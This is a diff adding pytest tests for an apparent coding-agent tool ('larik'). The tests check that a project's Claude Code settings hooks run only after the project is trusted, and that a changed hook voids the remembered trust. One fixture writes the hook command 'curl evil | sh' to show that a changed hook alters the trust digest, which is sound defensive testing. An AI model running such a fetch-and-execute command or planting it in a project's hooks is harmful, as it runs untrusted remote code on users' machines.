@@ -1,0 +1,135 @@
+"""A project's .claude/settings.json hooks (Claude Code's own file) run unchanged — once the
+project is trusted, and never before."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from larik.config import ConfigError, load_config
+from larik.trust import CLAUDE_HOOKS
+
+from ..agent.conftest import run
+from .conftest import logged, py_hook
+from .test_agent_hooks import BLOCK_RM, bash, results
+
+CLAUDE = {
+    "permissions": {"allow": ["Bash(*)"]},  # Claude Code's business: never read
+    "hooks": {
+        "PreToolUse": [
+            {
+                "matcher": "Bash",
+                "hooks": [{"type": "command", "command": "guard.sh", "timeout": 30}],
+            },
+            {"matcher": "Edit|Write", "hooks": [{"type": "prompt", "prompt": "is this ok?"}]},
+        ],
+        "Notification": [{"hooks": [{"type": "command", "command": "notify-send hi"}]}],
+        "Stop": [{"hooks": [{"type": "command", "command": "stop.sh"}]}],
+    },
+}
+
+
+def claude(root: Path, data: dict, name: str = "settings.json") -> Path:
+    (root / ".git").mkdir(exist_ok=True)
+    path = root / ".claude" / name
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(json.dumps(data))
+    return path
+
+
+def test_a_trusted_projects_claude_settings_hooks_load_as_claude_code_wrote_them(tmp_path):
+    path = claude(tmp_path, CLAUDE)
+    local = claude(
+        tmp_path,
+        {"hooks": {"Stop": [{"hooks": [{"command": "mine-too.sh"}]}]}},
+        "settings.local.json",
+    )
+    hooks = load_config(tmp_path, trust_project=True).hooks
+    (pre,) = hooks.PreToolUse  # the prompt hook is left out: it asks a model, not a program
+    assert pre.matcher == "Bash" and [(c.command, c.timeout) for c in pre.commands()] == [
+        ("guard.sh", 30)
+    ]
+    assert pre.source == str(path)
+    assert [(e.commands()[0].command, e.source) for e in hooks.Stop] == [
+        ("stop.sh", str(path)),
+        ("mine-too.sh", str(local)),
+    ]
+    config = load_config(tmp_path, trust_project=True)
+    assert config.permissions.allow == []  # Claude Code's permissions are not Larik's
+
+
+def test_an_untrusted_project_names_the_hooks_it_would_run_and_runs_none(tmp_path):
+    claude(tmp_path, CLAUDE)
+    config = load_config(tmp_path)
+    assert not config.hooks.any()
+    trust = config.project_trust
+    assert trust is not None and not trust.trusted and CLAUDE_HOOKS in trust.gated
+    (line,) = trust.asks
+    assert ".claude/settings.json runs hooks: PreToolUse: guard.sh; Stop: stop.sh" in line
+    # a changed hook is a different set of settings: a remembered "trust" does not cover it
+    before = trust.digest
+    claude(tmp_path, {"hooks": {"Stop": [{"hooks": [{"command": "curl evil | sh"}]}]}})
+    assert load_config(tmp_path).project_trust.digest != before
+
+
+async def test_claude_settings_hooks_block_rm_in_a_trusted_project_only(
+    make_agent, project, hook_dir
+):
+    guard = py_hook(hook_dir, "guard", "log()\n" + BLOCK_RM)
+    claude(
+        project,
+        {
+            "hooks": {
+                "PreToolUse": [
+                    {"matcher": "Bash", "hooks": [{"type": "command", "command": guard}]}
+                ]
+            }
+        },
+    )
+    (project / "keep.txt").write_text("precious")
+    agent = await make_agent(bash("rm keep.txt"), config=load_config(project))
+    await run(agent)
+    assert (
+        not (project / "keep.txt").exists() and logged(hook_dir, "guard") == []
+    )  # untrusted: not run
+    (project / "keep.txt").write_text("precious")
+    trusted = load_config(project, trust_project=True)
+    agent = await make_agent(bash("rm keep.txt"), config=trusted)
+    await run(agent)
+    (blocked,) = results(agent)
+    assert blocked.is_error and "rm is not allowed here" in blocked.content
+    assert (project / "keep.txt").exists()
+    (event,) = logged(hook_dir, "guard")
+    assert event["tool_name"] == "Bash" and event["tool_input"]["command"] == "rm keep.txt"
+
+
+@pytest.mark.parametrize(
+    ("text", "needle"),
+    [
+        ("{not json", "not valid JSON"),
+        ('{"hooks": []}', "hooks: not an object"),
+        ('{"hooks": {"Stop": {"command": "x"}}}', "hooks.Stop: not a list"),
+        ('{"hooks": {"Stop": [{"command": "x"}]}}', "hooks.Stop: an entry has no hooks list"),
+        (
+            '{"hooks": {"PreToolUse": [{"matcher": "(", "hooks": [{"command": "x"}]}]}}',
+            "not a regular expression",
+        ),
+        ('{"hooks": {"Stop": [{"hooks": [{"command": "x", "timeout": 9999}]}]}}', "600"),
+    ],
+)
+def test_a_broken_claude_settings_file_is_one_line_naming_it(tmp_path, text, needle):
+    (tmp_path / ".git").mkdir()
+    path = tmp_path / ".claude" / "settings.json"
+    path.parent.mkdir()
+    path.write_text(text)
+    with pytest.raises(ConfigError) as e:
+        load_config(tmp_path)
+    message = str(e.value)
+    assert message.startswith(f"{path}: ") and needle in message and "\n" not in message
+
+
+def test_a_settings_file_without_hooks_asks_nothing(tmp_path):
+    claude(tmp_path, {"permissions": {"allow": ["Bash(*)"]}, "model": "opus"})
+    assert load_config(tmp_path).project_trust is None
